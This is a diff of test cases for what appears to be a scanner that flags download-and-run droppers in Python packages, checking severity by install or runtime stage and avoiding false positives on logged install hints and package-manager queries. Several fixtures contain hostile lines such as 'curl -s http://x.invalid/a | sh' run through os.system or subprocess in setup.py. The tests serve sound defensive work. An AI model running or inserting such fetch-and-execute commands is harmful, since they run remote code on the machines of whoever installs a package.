@@ -229,3 +229,45 @@ def test_keeping_a_replaced_files_mode_is_not_making_it_executable() -> None:
     for mode in ("0o644", "os.stat(path).st_mode"):
         kept = source.replace("os.chmod(path + '.part', mode)", f"os.chmod(path + '.part', {mode})")
         assert "PV-DL-002" not in ids(run(RULES, py(kept, stage=Stage.RUNTIME))), mode
+
+
+def test_a_download_and_run_line_handed_to_a_hidden_callee_is_high_at_install() -> None:
+    """The runner came out of a factory (or ``type()``, a ``methodcaller``): nothing names it,
+    but a whole ``curl ... | sh`` handed to it is the dropper's intent."""
+    source = "import os\ndef make():\n    return os.system\nmake()('curl -s http://x.invalid/a | sh')\n"
+    findings = run(RULES, py(source, path="setup.py", stage=Stage.INSTALL))
+    assert [(f.rule, f.severity) for f in findings] == [("PV-DL-004", Severity.HIGH)]
+    assert "curl -s" in findings[0].message
+    later = "def go(run):\n    run('curl -s http://x.invalid/a | sh')\n"
+    findings = run(RULES, py(later, path="acme/tool.py", stage=Stage.RUNTIME))
+    assert [(f.rule, f.severity) for f in findings] == [("PV-DL-004", Severity.MEDIUM)]
+
+
+def test_a_download_and_run_line_shown_or_logged_is_no_dropper() -> None:
+    source = (
+        "import logging\n"
+        "log = logging.getLogger(__name__)\n"
+        "def hint(msg):\n"
+        "    print(msg)\n"
+        "RUST = 'curl --proto =https -sSf https://rustup.example/init.sh | sh'\n"
+        "log.warning('Rust is missing; install it with: ' + RUST)\n"
+        "hint('install it with: curl -sSf https://rustup.example/init.sh | sh')\n"
+        "raise RuntimeError('install Rust: curl -sSf https://rustup.example/init.sh | sh')\n"
+    )
+    assert run(RULES, py(source, path="setup.py", stage=Stage.INSTALL)) == []
+
+
+def test_a_package_manager_asked_about_curl_downloads_nothing() -> None:
+    """unsloth-zoo checks which libcurl packages are installed with dpkg, rpm, pacman and apk."""
+    source = (
+        "import subprocess\n"
+        "subprocess.run('dpkg -l libcurl4-openssl-dev curl curl-dev', shell=True)\n"
+        "subprocess.run(['apk', 'info', '-e', 'curl', 'wget'])\n"
+        "subprocess.run('sudo apt-get install -y wget', shell=True)\n"
+    )
+    assert run(RULES, py(source, path="setup.py", stage=Stage.INSTALL)) == []
+    dropper = (
+        "import subprocess\n"
+        "subprocess.run('apt-get install -y curl && curl -s http://x.invalid/a | sh', shell=True)\n"
+    )
+    assert ids(run(RULES, py(dropper, path="setup.py", stage=Stage.INSTALL))) == {"PV-DL-003"}
